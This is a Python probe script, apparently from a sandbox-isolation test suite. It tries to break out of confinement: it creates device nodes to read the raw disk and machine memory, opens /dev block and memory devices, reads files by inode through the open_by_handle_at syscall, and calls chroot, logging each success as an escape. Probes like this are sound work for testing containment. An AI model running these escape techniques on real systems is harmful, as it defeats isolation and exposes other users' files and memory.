"""Makes device files, reads the raw disk, opens files by their handle. It never writes to one."""

import ctypes
import os
import stat
import struct

from common import TARGETS, attempt, got, libc, number, quietly, refused, say

root = os.stat("/").st_dev
ours = os.stat(".").st_dev


def raw(name, device):
    os.mknod(name, stat.S_IFBLK | 0o600, device)
    descriptor = os.open(name, os.O_RDONLY)
    try:
        os.read(descriptor, 512)
    finally:
        os.close(descriptor)


def memory(name):
    os.mknod(name, stat.S_IFCHR | 0o600, os.makedev(1, 1))
    os.close(os.open(name, os.O_RDONLY))


tell = lambda what: say(f"escaped: {what}")
attempt("read the disk of /", lambda: raw("disk", root), tell)
attempt("read the disk of the worktree", lambda: raw("disk2", ours), tell)
attempt("open the machine's memory", lambda: memory("memory"), tell)
for name in quietly(lambda: os.listdir("/dev")) or ["vda", "sda", "nvme0n1", "mem", "kmem", "port", "kmsg"]:
    path = f"/dev/{name}"
    kind = quietly(lambda: os.stat(path).st_mode) or 0
    risky = stat.S_ISBLK(kind) or name in ("mem", "kmem", "port", "kmsg")
    if risky:
        attempt(f"open {path}", lambda: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)), tell)
for name in ("disk", "disk2", "memory"):
    quietly(lambda: os.unlink(name))


def by_handle(inode):
    """On ext4 a handle is a file's number; generation 0 fits all."""
    handle = ctypes.create_string_buffer(struct.pack("Iiii", 8, 1, inode, 0))
    place = os.open(".", os.O_RDONLY)
    result = libc.syscall(ctypes.c_long(number(304, 265)), place, handle, os.O_RDONLY)
    if result == -1:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    try:
        return os.read(result, 4096)
    finally:
        os.close(result)


for inode in TARGETS["inodes"]:
    data = attempt(f"open file number {inode} by its handle", lambda: by_handle(inode), None)
    if data is not None:
        got(f"file number {inode}", data)
try:
    os.chroot(".")
    say("escaped: chroot")
except OSError as error:
    refused("chroot", error)
say("done")
